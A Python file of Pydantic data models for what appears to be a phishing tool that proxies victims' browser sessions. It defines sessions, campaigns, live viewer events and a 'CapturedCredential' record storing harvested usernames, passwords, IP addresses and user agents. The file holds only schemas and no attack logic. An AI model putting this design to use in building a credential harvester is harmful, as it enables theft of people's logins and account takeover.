"""Pydantic models for session state, captures and viewer events."""

from __future__ import annotations

from datetime import datetime, timezone
from enum import Enum
from typing import Any, Optional

from pydantic import BaseModel, ConfigDict, Field
from pydantic.alias_generators import to_camel


def utcnow() -> datetime:
    return datetime.now(timezone.utc)


class WireModel(BaseModel):
    """Base for models exchanged with viewers: camelCase on the wire."""

    model_config = ConfigDict(alias_generator=to_camel, populate_by_name=True)

    def to_wire(self) -> dict:
        return self.model_dump(mode="json", by_alias=True)


class SessionState(str, Enum):
    LAUNCHING = "launching"
    RESTORING = "restoring"
    ACTIVE = "active"
    CLOSED = "closed"


class OriginContext(WireModel):
    """Who triggered the session: used for viewport sizing and capture metadata."""

    ip: str = "unknown"
    user_agent: str = "unknown"
    screen_width: Optional[int] = None
    screen_height: Optional[int] = None


class NavigationEntry(WireModel):
    url: str
    title: str = ""
    timestamp: datetime = Field(default_factory=utcnow)


class CapturedCredential(WireModel):
    """One harvested identifier/secret observation. Never mutated after creation."""

    model_config = ConfigDict(frozen=True)

    session_token: str
    campaign_id: str
    email_or_username: Optional[str] = None
    password: Optional[str] = None
    timestamp: datetime = Field(default_factory=utcnow)
    source_url: str = ""
    capture_method: str = "network"  # network, form_capture
    ip: str = "unknown"
    user_agent: str = "unknown"


class SessionInfo(WireModel):
    """Snapshot of one session as reported to callers."""

    session_token: str
    campaign_id: str
    created_at: datetime
    last_activity: datetime
    state: SessionState
    is_active: bool
    viewer_count: int = 0
    credentials_count: int = 0
    current_url: str = ""
    debugging_url: Optional[str] = None
    bind_url: Optional[str] = None


class PersistedSessionRecord(BaseModel):
    """Durable tuple used only to restore a session after a restart."""

    session_token: str
    campaign_id: str
    created_at: datetime


class ViewerEvent(WireModel):
    """A message pushed to viewers of a session."""

    event: str
    session_token: str
    data: dict[str, Any] = Field(default_factory=dict)
    timestamp: datetime = Field(default_factory=utcnow)

    def to_message(self) -> dict:
        payload = {"sessionToken": self.session_token, "timestamp": self.timestamp.isoformat()}
        payload.update(self.data)
        return {"event": self.event, "data": payload}
